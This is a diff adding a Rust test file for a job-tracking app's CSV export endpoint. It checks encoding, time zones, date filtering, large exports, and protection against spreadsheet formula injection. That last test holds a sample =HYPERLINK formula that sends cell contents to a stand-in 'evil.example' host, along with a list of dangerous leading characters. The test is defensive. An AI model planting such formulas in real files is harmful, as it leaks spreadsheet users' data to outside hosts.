@@ -1,0 +1,127 @@
+//! GET /api/reports/export.csv, read back by a real reader of such files.
+
+use serde_json::{Value, json};
+
+use crate::{
+    jobs::world::World,
+    support::{Response, on_each_engine},
+};
+
+/// The headings, and each line by its heading.
+fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
+    assert_eq!(answer.status, 200, "{}", answer.text);
+    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
+    let text = answer
+        .text
+        .strip_prefix('\u{FEFF}')
+        .expect("a byte order mark");
+    assert!(text.ends_with("\r\n"), "RFC 4180: CRLF");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let headings: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    let lines = reader.records().map(|line| {
+        let line = line.unwrap();
+        headings
+            .iter()
+            .cloned()
+            .zip(line.iter().map(Value::from))
+            .collect()
+    });
+    let lines = lines.collect();
+    (headings, lines)
+}
+
+on_each_engine! {
+    async fn the_table_has_every_job_in_words(engine) {
+        let world = World::new(engine).await;
+        let job = world.book(json!({
+            "title": "Fix \"tap\", now", "description": "two\nlines, é", "location": "2 High St", "priority": 4, "status": "completed",
+            "startDate": "2026-11-22T13:30:00Z", "endDate": "2026-11-22T15:00:00Z", "completeByDate": "2026-12-01",
+            "assignedUserId": world.app.worker_id,
+        })).await;
+        world.change(&job, json!({"actualStartTime": "2026-11-22T13:00:00Z", "actualFinishTime": "2026-11-22T13:10:00Z"})).await;
+        world.change(&job, json!({"archived": 1})).await;
+        world.book(json!({"title": "Before", "startDate": "2026-11-22T12:30:00Z"})).await;
+        let answer = world.admin.get("/api/reports/export.csv").await;
+        assert_eq!(answer.header("content-disposition"), "attachment; filename=\"jobwright-jobs-all.csv\"");
+        assert_eq!(answer.header("cache-control"), "no-store");
+        let (headings, lines) = read(&answer);
+        assert_eq!((headings.len(), lines.len()), (22, 2));
+        assert_eq!(lines[0]["Title"], "Before");
+        for empty in ["Description", "End", "Complete By", "Assigned To", "Scheduled Minutes", "Actual Start", "Actual Minutes"] {
+            assert_eq!(lines[0][empty], "", "{empty}");
+        }
+        // Times are the business's: Sydney.
+        assert_eq!(lines[1], json!({
+            "Title": "Fix \"tap\", now", "Description": "two\nlines, é", "Location": "2 High St", "Client": "Ann Lee",
+            "Business Name": "", "Main Contact": "", "Phone": "", "Status": "Completed", "Priority": "Urgent",
+            "Start": "2026-11-23 00:30", "End": "2026-11-23 02:00", "Complete By": "2026-12-01",
+            "Actual Start": "2026-11-23 00:00", "Actual Finish": "2026-11-23 00:10", "Scheduled Minutes": "90",
+            "Actual Minutes": "10", "Assigned To": "Worker Person", "Assigned By": "Admin Person",
+            "Created By": "Admin Person", "Created": "2026-11-20 20:00", "Archived": "Yes", "Job ID": job["id"],
+        }));
+    }
+
+    /// The period is days of the business, both counted; the file is named after it.
+    async fn the_table_is_of_the_period(engine) {
+        let world = World::new(engine).await;
+        for start in ["2026-11-21T12:59:59Z", "2026-11-21T13:00:00Z", "2026-11-22T12:59:59Z", "2026-11-22T13:00:00Z"] {
+            world.book(json!({"title": start, "startDate": start})).await;
+        }
+        for (query, name, expected) in [
+            ("from=2026-11-22&to=2026-11-22", "2026-11-22-2026-11-22", 1..3),
+            ("from=2026-11-22", "from-2026-11-22", 1..4),
+            ("to=2026-11-22", "to-2026-11-22", 0..3),
+        ] {
+            let answer = world.admin.get(&format!("/api/reports/export.csv?{query}")).await;
+            assert_eq!(answer.header("content-disposition"), format!("attachment; filename=\"jobwright-jobs-{name}.csv\""));
+            assert_eq!(read(&answer).1.len(), expected.len(), "{query}");
+            assert_eq!(read(&answer).1[0]["Start"], ["2026-11-21 23:59", "2026-11-22 00:00"][expected.start.min(1)]);
+        }
+        let none = world.admin.get("/api/reports/export.csv?to=2020-01-01").await;
+        assert_eq!((read(&none).0.len(), read(&none).1.len()), (22, 0), "the headings alone");
+    }
+
+    /// A cell that a spreadsheet would run gets an apostrophe in front.
+    async fn no_cell_is_run_as_a_formula(engine) {
+        let world = World::new(engine).await;
+        let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        let client = world.admin.post("/api/clients", json!({"name": "@SUM(1+1)", "businessName": "-2+3", "phone": "+61 2 5550 0100"})).await.json;
+        world.book(json!({"title": attack, "description": "＝1+1", "location": "a = b", "clientId": client["id"]})).await;
+        let (_, lines) = read(&world.admin.get("/api/reports/export.csv").await);
+        let expected = [
+            ("Title", format!("'{attack}")), ("Description", "'＝1+1".to_owned()), ("Location", "a = b".to_owned()),
+            ("Client", "'@SUM(1+1)".to_owned()), ("Business Name", "'-2+3".to_owned()), ("Phone", "'+61 2 5550 0100".to_owned()),
+        ];
+        for (heading, cell) in expected {
+            assert_eq!(lines[0][heading], cell);
+        }
+        let dangerous = |cell: &Value| cell.as_str().unwrap().starts_with(['=', '+', '-', '@', '\t', '\r']);
+        assert!(!lines[0].as_object().unwrap().values().any(dangerous));
+    }
+
+    /// More jobs than are read at once, many of which start together.
+    async fn a_long_table_is_sent_piece_by_piece(engine) {
+        let world = World::new(engine).await;
+        let job = world.book(json!({})).await;
+        let fields = "title, title_sort, search_text, slot_end, status, priority, archived, client_id, user_id, created_at, updated_at, version";
+        let id = match engine {
+            crate::support::Engine::Sqlite => "randomblob(16)",
+            crate::support::Engine::Postgres => "gen_random_uuid()",
+        };
+        world.app.sql(format!(
+            "WITH RECURSIVE n(i) AS (SELECT CAST(1 AS BIGINT) UNION ALL SELECT i + 1 FROM n WHERE i < 3999) \
+             INSERT INTO jobs (id, start_at, {fields}) SELECT {id}, start_at - (i % 3) * 1000, {fields} FROM jobs, n"
+        )).await;
+        let (_, lines) = read(&world.admin.get("/api/reports/export.csv").await);
+        let mut ids: Vec<&str> = lines.iter().map(|line| line["Job ID"].as_str().unwrap()).collect();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!((lines.len(), ids.len()), (4000, 4000));
+        assert!(ids.contains(&job["id"].as_str().unwrap()));
+    }
+}
